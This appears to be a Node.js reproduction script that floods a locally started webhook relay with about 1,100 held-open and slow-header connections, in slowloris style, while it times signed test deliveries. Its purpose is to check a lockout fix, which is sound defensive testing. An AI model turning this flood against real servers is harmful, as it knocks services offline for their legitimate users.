// Reproduction of issue 10 §1 (one client locking everyone out): N connections, half of them
// silent, half sending headers one byte a second, held for D seconds against a relay started from
// DIR, while one signed delivery a second is timed. Prints each delivery and a summary.
//
//   node scripts/flood-repro.ts [DIR=.] [N=1100] [D=25] [reconnect]
//
// `reconnect`: an attacker whose connection was closed opens another at once. Mind `ulimit -n`: the
// relay and this process each hold about N descriptors.
import { spawn } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { readdirSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import process from "node:process";
import { createInterface } from "node:readline";
import { signDelivery } from "../src/crypto/sign.ts";
import { SEED_BODY } from "./seed-event.ts";

const [dirText = ".", countText = "1100", secondsText = "25", mode] = process.argv.slice(2);
const DIR = resolve(dirText);
const N = Number(countText);
const SECONDS = Number(secondsText);
const SLOW_START = "POST /webhooks/telnyx HTTP/1.1\r\nX-Slow: ";

const { publicKey, privateKey } = generateKeyPairSync("ed25519");
const portalKey = publicKey.export({ format: "der", type: "spki" }).subarray(12).toString("base64");
const relay = spawn(
  process.execPath,
  [join(DIR, "src/main.ts"), "--host", "127.0.0.1", "--port", "0", "--dead-letter-file", join(tmpdir(), "flood-repro-dead.jsonl"), "--dedup-window", "0"],
  { env: { TELNYX_PUBLIC_KEY: portalKey }, stdio: ["ignore", "ignore", "pipe"] },
);
const port = await new Promise<number>((found) => {
  createInterface({ input: relay.stderr! }).on("line", (line) => {
    const entry = JSON.parse(line) as { message: string; port?: number };
    if (entry.message === "listening") found(entry.port as number);
  });
});
const descriptors = (): number | string => {
  try {
    return readdirSync(`/proc/${relay.pid}/fd`).length;
  } catch {
    return "?";
  }
};

const attack = (slow: boolean): Socket => {
  const socket = connect({ port, host: "127.0.0.1", allowHalfOpen: true }); // ignores our FIN
  socket.on("error", () => {});
  if (slow) socket.on("connect", () => socket.write(SLOW_START));
  return socket;
};
const attackers: Socket[] = [];
for (let i = 0; i < N; i++) {
  attackers.push(attack(i % 2 === 1));
  if (i % 100 === 99) await new Promise((done) => setTimeout(done, 10));
}
const drip = setInterval(() => {
  for (const [i, socket] of attackers.entries()) if (i % 2 === 1 && socket.writable) socket.write("x");
}, 1000);

/** One signed delivery on a fresh connection: "200", another status, or what went wrong. */
function deliver(): Promise<string> {
  const h = signDelivery(privateKey, SEED_BODY, Math.floor(Date.now() / 1000));
  return new Promise((done) => {
    const socket = connect({ port, host: "127.0.0.1" });
    let answer = "";
    const timer = setTimeout(() => {
      socket.destroy();
      done("no answer in 5 s");
    }, 5000);
    socket.on("data", (chunk) => (answer += chunk.toString("latin1")));
    socket.on("error", (error: NodeJS.ErrnoException) => done(error.code ?? error.message));
    socket.on("close", () => {
      clearTimeout(timer);
      done(answer.slice(9, 12) || "closed without an answer");
    });
    socket.write(
      `POST /webhooks/telnyx HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${SEED_BODY.length}\r\n` +
        `telnyx-timestamp: ${h["telnyx-timestamp"]}\r\ntelnyx-signature-ed25519: ${h["telnyx-signature-ed25519"]}\r\n\r\n${SEED_BODY}`,
    );
  });
}

const started = Date.now();
let delivered = 0;
let withinSecond = 0;
let samples = 0;
while (Date.now() - started < SECONDS * 1000) {
  if (mode === "reconnect") {
    for (const [i, socket] of attackers.entries()) {
      if (socket.destroyed || socket.readableEnded) {
        socket.destroy();
        attackers[i] = attack(i % 2 === 1);
      }
    }
  }
  const sent = Date.now();
  const outcome = await deliver();
  const ms = Date.now() - sent;
  samples++;
  if (outcome === "200") delivered++;
  if (outcome === "200" && ms < 1000) withinSecond++;
  console.log(`t=${Math.round((sent - started) / 1000)}s delivery: ${outcome} in ${ms} ms; relay descriptors: ${descriptors()}`);
  await new Promise((done) => setTimeout(done, Math.max(0, 1000 - ms)));
}
clearInterval(drip);
console.log(`${DIR}: ${N} attackers, ${samples} deliveries, ${delivered} answered 200, ${withinSecond} within 1 s`);
for (const socket of attackers) socket.destroy();
relay.kill("SIGKILL");
process.exit(0);
